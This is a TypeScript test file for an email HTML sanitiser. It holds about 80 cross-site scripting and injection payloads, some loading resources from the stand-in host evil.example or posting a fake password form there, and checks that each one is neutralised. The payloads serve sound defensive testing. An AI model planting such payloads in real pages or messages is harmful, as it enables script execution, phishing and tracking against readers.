import assert from 'node:assert/strict';
import { test } from 'node:test';
import { refuseHtml } from '#core/kernel/index.ts';
import { sanitizeMailHtml } from './sanitize-mail-html.ts';

/** Our own payloads: each would run, load, cover, submit or clobber something if it came through. */
const payloads = [
  '<script>window.__x=1</script>', '<SCRIPT SRC=//evil.example/x></SCRIPT>', '<scr<script>ipt>window.__x=1</scr</script>ipt>', '<img src=x onerror=window.__x=1>', '<img/src/onerror=window.__x=1>', '<IMG """><SCRIPT>window.__x=1</SCRIPT>">',
  '<svg onload=window.__x=1>', '<svg><script>window.__x=1</script></svg>', '<svg><a xlink:href="javascript:window.__x=1"><text>x</text></a></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__x=1&gt;">', '<math href="javascript:window.__x=1">x</math>',
  '<a href="javascript:window.__x=1">x</a>', '<a href="jav&#x09;ascript:window.__x=1">x</a>', '<a href=" &#14; javascript:window.__x=1">x</a>', '<a href="JaVaScRiPt:window.__x=1">x</a>', '<a href="vbscript:x">x</a>', '<a href="data:text/html,<script>window.__x=1</script>">x</a>', '<a href="java\nscript:window.__x=1">x</a>', '<a href="&#106;avascript:window.__x=1">x</a>',
  '<iframe srcdoc="<script>window.__x=1</script>"></iframe>', '<iframe src="javascript:window.__x=1">', '<object data="javascript:window.__x=1">', '<embed src="//evil.example/x.swf">', '<applet code=x>', '<frameset onload=window.__x=1>',
  '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:window.__x=1">', '<link rel=stylesheet href="//evil.example/x.css">', '<style>@import "//evil.example/x.css"; body{position:fixed}</style>', '<style><img src="</style><img src=x onerror=window.__x=1>">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:window.__x=1">x</button></form>', '<input autofocus onfocus=window.__x=1>', '<select onchange=window.__x=1><option>x</select>', '<textarea onfocus=window.__x=1></textarea><img src=x onerror=window.__x=1>', '<isindex action=javascript:window.__x=1>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>', '<div style="background:url(//evil.example/x)">x</div>', '<div style="background-image:u\\72l(//evil.example/x)">x</div>', '<div style="width:expression(window.__x=1)">x</div>', '<div style="-moz-binding:url(//evil.example/x)">x</div>', '<div style="behavior:url(x.htc)">x</div>', '<div style="margin-top:-9999px;color:var(--x)">x</div>', '<div style="color:red;pos/**/ition:fixed">x</div>', '<div style="position&#58;fixed">x</div>', '<div style="z-index:99999;opacity:0;transform:scale(9)">x</div>',
  '<a id=cookie>x</a><a name=body>x</a>', '<img name=getElementById>', '<form id=x><output name=attributes></form>', '<div class=modal id=app>x</div>',
  '<img srcset="//evil.example/x 1x">', '<picture><source srcset="//evil.example/x"><img></picture>', '<video poster="//evil.example/x" src="//evil.example/y"></video>', '<audio src=x onerror=window.__x=1>', '<table background="//evil.example/x"><tr><td background="//evil.example/y">x</table>', '<body background="//evil.example/x" onload=window.__x=1>', '<input type=image src="//evil.example/x">',
  '<noscript><p title="</noscript><img src=x onerror=window.__x=1>">', '<xmp><p title="</xmp><img src=x onerror=window.__x=1>">', '<noembed><img title="</noembed><img src=x onerror=window.__x=1>">', '<template><img src=x onerror=window.__x=1></template>', '<plaintext><img src=x onerror=window.__x=1>', '<listing>&lt;img src=x onerror=window.__x=1&gt;</listing>', '<title><img title="</title><img src=x onerror=window.__x=1>">',
  '<!--><img src=x onerror=window.__x=1>-->', '<!--[if IE]><script>window.__x=1</script><![endif]-->', '<![CDATA[<img src=x onerror=window.__x=1>]]>', '<?xml version="1.0"?><img src=x onerror=window.__x=1>', '<details open ontoggle=window.__x=1>x</details>', '<marquee onstart=window.__x=1>x</marquee>', '<dialog open onclose=window.__x=1>x</dialog>', '<a href="https://ok.example" onclick="window.__x=1" ping="//evil.example">x</a>', '<img src="data:image/svg+xml,<svg onload=window.__x=1>">', '<img src="data:text/html;base64,PHNjcmlwdD4=">', '<img src="javascript:window.__x=1">', '<img data-remote-src="javascript:window.__x=1">', '<img lowsrc="//evil.example/x" dynsrc="//evil.example/y">', '<img src="cid:x&quot; onerror=&quot;window.__x=1">', '<div contenteditable autofocus onfocus=window.__x=1>', '<font face="x\' onmouseover=\'window.__x=1">x</font>', '<p dir="ltr\u0000" onclick=window.__x=1>x', '<a href="//evil.example/x" target=_top>x</a>', '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=window.__x=1>',
];

const tag = /<([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g;
const attributes = /\s([a-z-]+)="([^"]*)"/g;

/** Reads the result by the strict form that the sanitiser writes; anything else in it is a failure. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  for (const [, name = '', list = ''] of html.matchAll(tag)) {
    if (/^(?:script|style|iframe|object|embed|applet|base|meta|link|form|input|button|select|textarea|svg|math|template|title|video|audio|source|picture|frameset|body|html|head|noscript|xmp|plaintext|dialog|details|marquee)$/.test(name)) dangers.push(name);
    for (const [, attribute = '', value = ''] of list.matchAll(attributes)) {
      if (/^(?:on|form|xlink)|^(?:id|name|class|srcset|srcdoc|background|ping|action|poster|lowsrc|dynsrc|popover)/.test(attribute)) dangers.push(attribute);
      if (attribute === 'href' && !/^(?:https?|mailto|tel):/i.test(value)) dangers.push(`href ${value}`);
      if (attribute === 'src' && !/^(?:cid:|data:image\/(?:png|jpe?g|gif|webp);base64,)/i.test(value)) dangers.push(`src ${value}`);
      if (attribute === 'data-remote-src' && !/^https?:\/\//.test(value)) dangers.push(`remote ${value}`);
      if (attribute === 'style' && /position|url|expression|binding|behavior|-\d|\\|var\(|z-index|opacity|transform|\/\*/i.test(value)) dangers.push(`style ${value}`);
    }
  }
  const rest = html.replace(tag, '').replace(/<\/[a-z][a-z0-9]*>/g, '');
  if (/[<>]/.test(rest)) dangers.push(`markup ${rest}`);
  return dangers;
}

test('no payload leaves a script, a frame, a form, a name, a style that moves or a load', () => {
  assert.ok(payloads.length >= 80);
  const wraps = [(each: string) => each, (each: string) => `<div><p>before ${each} after</p></div>`, (each: string) => `<table><tr><td>${each}`, (each: string) => `<b title="x>${each}`];
  for (const payload of payloads) {
    for (const wrap of wraps) {
      const { html } = sanitizeMailHtml(wrap(payload));
      assert.ok(html !== null);
      assert.deepEqual(dangersIn(html), [], `${wrap(payload)} -> ${html}`);
    }
  }
});

test('the check of this test sees dangers', () => {
  for (const html of ['<script>', '<a href="javascript:x">', '<b onclick="x">', '<div style="position: fixed">', '<img src="https://x.example">', '<p <b>']) {
    assert.notEqual(dangersIn(html).length, 0, html);
  }
});

test('remote images wait for the reader, inline ones stay', () => {
  const { html, remoteImages } = sanitizeMailHtml('<img src="https://x.example/a.png?b=1&amp;c=2" alt=A><img src="//y.example/b.gif"><img src="cid:one@x"><img src="data:image/png;base64,AAAA"><img src="local.png">');
  assert.equal(remoteImages, 2);
  assert.equal(html, '<img alt="A" data-remote-src="https://x.example/a.png?b=1&amp;c=2" /><img data-remote-src="https://y.example/b.gif" /><img src="cid:one@x" /><img src="data:image/png;base64,AAAA" /><img />');
});

test('what people write stays', () => {
  const { html } = sanitizeMailHtml('<p style="color: #f00; font-family: Arial, sans-serif; position: absolute">Hi <b>you</b></p><blockquote type="cite">old</blockquote><a href="https://x.example/?a=1&amp;b=2">link</a>');
  assert.equal(html, '<p style="color: #f00; font-family: Arial, sans-serif">Hi <b>you</b></p><blockquote type="cite">old</blockquote><a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">link</a>');
});

test('HTML that would cost too much is refused before it is parsed', () => {
  assert.equal(refuseHtml('<b>'.repeat(200_000)), 'html-too-large');
  assert.equal(refuseHtml('<b>'.repeat(257)), 'html-too-deep');
  assert.equal(refuseHtml('<b/>'.repeat(257)), 'html-too-deep');
  assert.equal(refuseHtml('<br>'.repeat(50_001)), 'html-too-many-tags');
  assert.equal(sanitizeMailHtml('<div>'.repeat(300)).html, null);
});

test('old HTML without end tags is not deep', () => {
  assert.equal(refuseHtml('<p>a'.repeat(1_000)), null);
  assert.equal(refuseHtml(`<ul>${'<li>a'.repeat(1_000)}</ul>`), null);
  assert.equal(refuseHtml(`<table>${'<tr><td>a<td>b'.repeat(1_000)}</table>`), null);
  assert.equal(refuseHtml(`<!-- ${'<b>'.repeat(1_000)} -->`), null);
});
